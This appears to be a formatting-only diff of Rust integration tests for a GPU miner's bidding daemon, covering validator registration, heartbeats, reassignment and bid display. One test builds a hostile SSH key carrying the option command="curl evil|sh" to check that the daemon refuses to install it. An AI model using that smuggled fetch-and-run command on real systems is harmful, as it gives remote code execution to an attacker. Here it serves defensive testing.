@@ -25,7 +25,14 @@ pub(crate) struct BidValidator {
 }
 
 impl BidValidator {
-    pub(crate) fn start(ip: &str, port: u16, log: &Path, key_file: &Path, interval: u32, extra: &[&str]) -> BidValidator {
+    pub(crate) fn start(
+        ip: &str,
+        port: u16,
+        log: &Path,
+        key_file: &Path,
+        interval: u32,
+        extra: &[&str],
+    ) -> BidValidator {
         let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/validator/bid_validator.py");
         let mut child = Command::new("python3")
             .arg(script)
@@ -47,7 +54,11 @@ impl BidValidator {
 
     /// Every line of the validator's log: the miner's requests and the validator's own events.
     fn entries(&self) -> Vec<Value> {
-        std::fs::read_to_string(&self.log).unwrap_or_default().lines().map(|l| serde_json::from_str(l).unwrap()).collect()
+        std::fs::read_to_string(&self.log)
+            .unwrap_or_default()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
     }
 
     /// The signed requests the miner sent.
@@ -82,12 +93,28 @@ pub(crate) fn advertised(req: &Value) -> Vec<(String, String, u64, u64)> {
         .as_array()
         .unwrap()
         .iter()
-        .map(|n| (n["host"].as_str().unwrap().to_string(), n["gpu_category"].as_str().unwrap().to_string(), n["gpu_count"].as_u64().unwrap(), n["hourly_rate_cents"].as_u64().unwrap()))
+        .map(|n| {
+            (
+                n["host"].as_str().unwrap().to_string(),
+                n["gpu_category"].as_str().unwrap().to_string(),
+                n["gpu_count"].as_u64().unwrap(),
+                n["hourly_rate_cents"].as_u64().unwrap(),
+            )
+        })
         .collect()
 }
 
 fn validator_lines(bed: &Testbed) -> Vec<String> {
-    bed.nodes.iter().flat_map(|n| n.read_authorized_keys().lines().filter(|l| l.contains(" validator-")).map(str::to_string).collect::<Vec<_>>()).collect()
+    bed.nodes
+        .iter()
+        .flat_map(|n| {
+            n.read_authorized_keys()
+                .lines()
+                .filter(|l| l.contains(" validator-"))
+                .map(str::to_string)
+                .collect::<Vec<_>>()
+        })
+        .collect()
 }
 
 /// A sandbox with nodes on 127.0.0.11-13 (H100, A100 with [N/A] sensors, driver down), the
@@ -101,14 +128,25 @@ fn online_setup(double: &ChainDouble, bid_port: u16) -> (Sandbox, Testbed, Strin
     double.set_neuron_axon(alice.public(), "127.0.0.1".parse().unwrap());
     double.set_neurons(387, &[(alice.public(), 0, true, vec![900]), (miner, 3, false, vec![1])]);
     // The A100 node has no rate of its own: its price comes from the static table.
-    let a100 = format!("host = \"127.0.0.12\"\nport = {}\nusername = \"{}\"\nhourly_rate_per_gpu = 2.5\n", bed.nodes[1].port, bed.nodes[1].username);
+    let a100 = format!(
+        "host = \"127.0.0.12\"\nport = {}\nusername = \"{}\"\nhourly_rate_per_gpu = 2.5\n",
+        bed.nodes[1].port, bed.nodes[1].username
+    );
     let text = s
         .read("miner.toml")
         .replace(&a100, &a100.replace("hourly_rate_per_gpu = 2.5\n", ""))
         .replace("strategy = \"fixed_assignment\"", "strategy = \"highest_stake\"")
-        .replace("[bittensor]\n", &format!("[bittensor]\nchain_endpoint = \"{}\"\nweight_interval_secs = 1\n", double.url))
+        .replace(
+            "[bittensor]\n",
+            &format!("[bittensor]\nchain_endpoint = \"{}\"\nweight_interval_secs = 1\n", double.url),
+        )
         .replace("health_check_timeout = 3\n", "health_check_timeout = 3\nhealth_check_interval = 2\n");
-    s.write("miner.toml", &format!("bid_grpc_port = {bid_port}\n\n{text}\n[bidding.strategy.static.static_prices]\nA100 = 2.50\nH100 = 9.99\n"));
+    s.write(
+        "miner.toml",
+        &format!(
+            "bid_grpc_port = {bid_port}\n\n{text}\n[bidding.strategy.static.static_prices]\nA100 = 2.50\nH100 = 9.99\n"
+        ),
+    );
     (s, bed, miner_hotkey, grpc, metrics)
 }
 
@@ -118,7 +156,14 @@ fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
     let bid_port = free_port();
     let (s, bed, miner_hotkey, grpc, metrics) = online_setup(&double, bid_port);
     let alice = Keypair::from_uri("//Alice").unwrap();
-    let mut v = BidValidator::start("127.0.0.1", bid_port, &s.path("bids.jsonl"), &s.path("validator_ed25519.pub"), 2, &["--known", &miner_hotkey]);
+    let mut v = BidValidator::start(
+        "127.0.0.1",
+        bid_port,
+        &s.path("bids.jsonl"),
+        &s.path("validator_ed25519.pub"),
+        2,
+        &["--known", &miner_hotkey],
+    );
     let d = start_with(&s, grpc, metrics, &["serve"]);
 
     wait_for("a RegisterBid", &d, 40, || !v.of("RegisterBid").is_empty());
@@ -126,11 +171,18 @@ fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
     assert_eq!(first["miner_hotkey"], miner_hotkey.as_str());
     assert_eq!(
         advertised(first),
-        vec![("127.0.0.11".to_string(), "H100".to_string(), 8, 250), ("127.0.0.12".to_string(), "A100".to_string(), 4, 250)],
+        vec![
+            ("127.0.0.11".to_string(), "H100".to_string(), 8, 250),
+            ("127.0.0.12".to_string(), "A100".to_string(), 4, 250)
+        ],
         "exactly the two healthy nodes; the node whose driver is down is left out\n{}",
         d.log()
     );
-    assert!(first["nodes"].as_array().unwrap().iter().all(|n| n["attestation_len"] == 0 && n["port"].as_u64().unwrap() > 0));
+    assert!(first["nodes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .all(|n| n["attestation_len"] == 0 && n["port"].as_u64().unwrap() > 0));
 
     // The key the validator returned is the one validator line on the nodes, tagged with Alice.
     let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
@@ -146,7 +198,10 @@ fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
     wait_for("three heartbeats", &d, 20, || v.of("HealthCheck").len() >= 3);
     let beats = v.of("HealthCheck");
     assert_eq!(beats[0]["hosts"], serde_json::json!(["127.0.0.11", "127.0.0.12"]));
-    let gaps: Vec<String> = beats.windows(2).map(|p| format!("{:.2}", p[1]["at"].as_f64().unwrap() - p[0]["at"].as_f64().unwrap())).collect();
+    let gaps: Vec<String> = beats
+        .windows(2)
+        .map(|p| format!("{:.2}", p[1]["at"].as_f64().unwrap() - p[0]["at"].as_f64().unwrap()))
+        .collect();
     eprintln!("heartbeat gaps (interval 2 s): {}", gaps.join(", "));
     for pair in beats.windows(2) {
         let gap = pair[1]["at"].as_f64().unwrap() - pair[0]["at"].as_f64().unwrap();
@@ -166,7 +221,14 @@ fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
     std::thread::sleep(Duration::from_secs(4));
     let before = v.of("RegisterBid").len();
     let back = Instant::now();
-    v = BidValidator::start("127.0.0.1", bid_port, &s.path("bids.jsonl"), &s.path("validator_ed25519.pub"), 2, &["--known", &miner_hotkey]);
+    v = BidValidator::start(
+        "127.0.0.1",
+        bid_port,
+        &s.path("bids.jsonl"),
+        &s.path("validator_ed25519.pub"),
+        2,
+        &["--known", &miner_hotkey],
+    );
     wait_for("a RegisterBid after the validator came back", &d, 30, || v.of("RegisterBid").len() > before);
     let took = back.elapsed();
     assert!(took < Duration::from_secs(30), "re-registered after {took:?}");
@@ -201,7 +263,10 @@ fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
     let all = v.requests();
     assert!(all.len() >= 8, "{all:?}");
     for r in &all {
-        assert!(r["signature_ok"] == true && r["raw_only"] == true && r["fresh"] == true && r["signature_len"] == 64, "bad request {r}");
+        assert!(
+            r["signature_ok"] == true && r["raw_only"] == true && r["fresh"] == true && r["signature_len"] == 64,
+            "bad request {r}"
+        );
     }
 }
 
@@ -214,7 +279,14 @@ fn a_hostile_key_from_a_validator_is_never_written_and_registration_is_retried()
     let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
     let hostile = format!("{}command=\"curl evil|sh\" {}", key, key.trim_end());
     s.write("hostile.pub", &hostile);
-    let v = BidValidator::start("127.0.0.1", bid_port, &s.path("bids.jsonl"), &s.path("hostile.pub"), 2, &["--keep-newline"]);
+    let v = BidValidator::start(
+        "127.0.0.1",
+        bid_port,
+        &s.path("bids.jsonl"),
+        &s.path("hostile.pub"),
+        2,
+        &["--keep-newline"],
+    );
     let text = s.read("miner.toml");
     s.write("miner.toml", &format!("{text}\n[bidding]\nvalidator_endpoint = \"http://127.0.0.1:{bid_port}\"\n"));
     let d = start_with(&s, grpc, metrics, &["serve", "--offline"]);
@@ -236,7 +308,8 @@ fn a_hostile_key_from_a_validator_is_never_written_and_registration_is_retried()
 
 #[test]
 fn bid_show_lists_what_would_be_advertised_and_why_the_rest_is_not() {
-    let bed = Testbed::start_on(&[H100x8, A100NotAvailable, NoDriver, Unsupported], &ips(&[31, 32, 33, 34])).expect("testbed");
+    let bed = Testbed::start_on(&[H100x8, A100NotAvailable, NoDriver, Unsupported], &ips(&[31, 32, 33, 34]))
+        .expect("testbed");
     let (s, _bed) = sandbox_for(bed);
     // Without a daemon no node was validated yet: each says so and how to run one.
     let stale = s.run(&["--json", "bid", "show"]).code(0).json();
@@ -244,13 +317,29 @@ fn bid_show_lists_what_would_be_advertised_and_why_the_rest_is_not() {
     assert!(stale["left_out"][0]["detail"].as_str().unwrap().contains("node test --full"), "{stale}");
     let out = s.run(&["--json", "bid", "show", "--full"]).code(0).json();
     let adv = out["advertised"].as_array().unwrap();
-    let got: Vec<(&str, &str, u64, u64)> = adv.iter().map(|a| (a["host"].as_str().unwrap(), a["gpu_category"].as_str().unwrap(), a["gpu_count"].as_u64().unwrap(), a["hourly_rate_cents"].as_u64().unwrap())).collect();
+    let got: Vec<(&str, &str, u64, u64)> = adv
+        .iter()
+        .map(|a| {
+            (
+                a["host"].as_str().unwrap(),
+                a["gpu_category"].as_str().unwrap(),
+                a["gpu_count"].as_u64().unwrap(),
+                a["hourly_rate_cents"].as_u64().unwrap(),
+            )
+        })
+        .collect();
     assert_eq!(got, vec![("127.0.0.31", "H100", 8, 250), ("127.0.0.32", "A100", 4, 250)], "{out}");
-    let reasons: Vec<&str> = out["left_out"].as_array().unwrap().iter().map(|l| l["reason"].as_str().unwrap()).collect();
+    let reasons: Vec<&str> =
+        out["left_out"].as_array().unwrap().iter().map(|l| l["reason"].as_str().unwrap()).collect();
     assert_eq!(reasons, vec!["unhealthy", "unknown_gpu_model"], "{out}");
-    s.run(&["bid", "show", "--full"]).code(0).stdout_has("H100 x8").stdout_has("left out: nvidia-smi reports NVIDIA GeForce RTX 4090");
+    s.run(&["bid", "show", "--full"])
+        .code(0)
+        .stdout_has("H100 x8")
+        .stdout_has("left out: nvidia-smi reports NVIDIA GeForce RTX 4090");
     // Two nodes on one IP: warned by node add, node test and config validate.
-    s.run(&["node", "add", "--rate", "2", "root@127.0.0.31:2222"]).code(0).stderr_has("shares IP 127.0.0.31 with nodes[0]");
+    s.run(&["node", "add", "--rate", "2", "root@127.0.0.31:2222"])
+        .code(0)
+        .stderr_has("shares IP 127.0.0.31 with nodes[0]");
     s.run(&["config", "validate"]).stderr_has("shares IP 127.0.0.31");
 }
 
@@ -262,8 +351,14 @@ fn a_new_assignment_withdraws_at_the_old_validator_and_registers_at_the_new_one(
     let (alice, bob) = (Keypair::from_uri("//Alice").unwrap(), Keypair::from_uri("//Bob").unwrap());
     let miner = *basilica_miner::core::identity::ss58::parse(&miner_hotkey).unwrap().as_ref();
     let bob_key = s.path("bob_ed25519");
-    assert!(Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(&bob_key).status().unwrap().success());
-    let a = BidValidator::start("127.0.0.1", bid_port, &s.path("alice.jsonl"), &s.path("validator_ed25519.pub"), 2, &[]);
+    assert!(Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
+        .arg(&bob_key)
+        .status()
+        .unwrap()
+        .success());
+    let a =
+        BidValidator::start("127.0.0.1", bid_port, &s.path("alice.jsonl"), &s.path("validator_ed25519.pub"), 2, &[]);
     let b = BidValidator::start("127.0.0.2", bid_port, &s.path("bob.jsonl"), &bob_key.with_extension("pub"), 2, &[]);
     let d = start_with(&s, grpc, metrics, &["serve"]);
     wait_for("registration at Alice", &d, 40, || !a.of("HealthCheck").is_empty());
@@ -271,16 +366,21 @@ fn a_new_assignment_withdraws_at_the_old_validator_and_registers_at_the_new_one(
 
     // Bob overtakes Alice on chain; his axon is 127.0.0.2.
     double.set_neuron_axon(bob.public(), "127.0.0.2".parse().unwrap());
-    double.set_neurons(387, &[(alice.public(), 0, true, vec![100]), (bob.public(), 1, true, vec![900]), (miner, 3, false, vec![1])]);
+    double.set_neurons(
+        387,
+        &[(alice.public(), 0, true, vec![100]), (bob.public(), 1, true, vec![900]), (miner, 3, false, vec![1])],
+    );
     wait_for("registration at Bob", &d, 30, || !b.of("RegisterBid").is_empty());
     let removed = a.of("RemoveBid");
     assert_eq!(removed.len(), 1, "everything withdrawn at Alice once: {removed:?}");
     assert_eq!(removed[0]["hosts"], serde_json::json!([]));
     assert_eq!(advertised(&b.of("RegisterBid")[0]).len(), 2);
-    let bob_blob = std::fs::read_to_string(bob_key.with_extension("pub")).unwrap().split_whitespace().nth(1).unwrap().to_string();
+    let bob_blob =
+        std::fs::read_to_string(bob_key.with_extension("pub")).unwrap().split_whitespace().nth(1).unwrap().to_string();
     wait_for("only Bob's key on the nodes", &d, 30, || {
         let lines = validator_lines(&bed);
-        lines.len() == bed.nodes.len() && lines.iter().all(|l| l.contains(&bob_blob) && l.ends_with(&format!("validator-{}", bob.ss58)))
+        lines.len() == bed.nodes.len()
+            && lines.iter().all(|l| l.contains(&bob_blob) && l.ends_with(&format!("validator-{}", bob.ss58)))
     });
     let heartbeats_at_alice = a.of("HealthCheck").len();
     wait_for("heartbeats at Bob", &d, 20, || !b.of("HealthCheck").is_empty());
@@ -295,11 +395,22 @@ fn an_unknown_hotkey_is_explained_and_retried_without_stopping_the_daemon() {
     let double = ChainDouble::start();
     let bid_port = free_port();
     let (s, _bed, _miner_hotkey, grpc, metrics) = online_setup(&double, bid_port);
-    let v = BidValidator::start("127.0.0.1", bid_port, &s.path("bids.jsonl"), &s.path("validator_ed25519.pub"), 2, &["--known", "5SomebodyElse"]);
+    let v = BidValidator::start(
+        "127.0.0.1",
+        bid_port,
+        &s.path("bids.jsonl"),
+        &s.path("validator_ed25519.pub"),
+        2,
+        &["--known", "5SomebodyElse"],
+    );
     let d = start_with(&s, grpc, metrics, &["serve"]);
     wait_for("two RegisterBid attempts", &d, 40, || v.of("RegisterBid").len() >= 2);
     wait_for("the explanation", &d, 10, || d.log().contains("does not know this miner's hotkey"));
-    assert!(d.log().matches("does not know this miner's hotkey").count() <= 2, "repeats are not logged at warn:\n{}", d.log());
+    assert!(
+        d.log().matches("does not know this miner's hotkey").count() <= 2,
+        "repeats are not logged at warn:\n{}",
+        d.log()
+    );
     let m = http_get(d.metrics, "/metrics");
     assert!(m.contains("basilica_miner_bid_requests_total{method=\"RegisterBid\",result=\"refused\"}"), "{m}");
 }
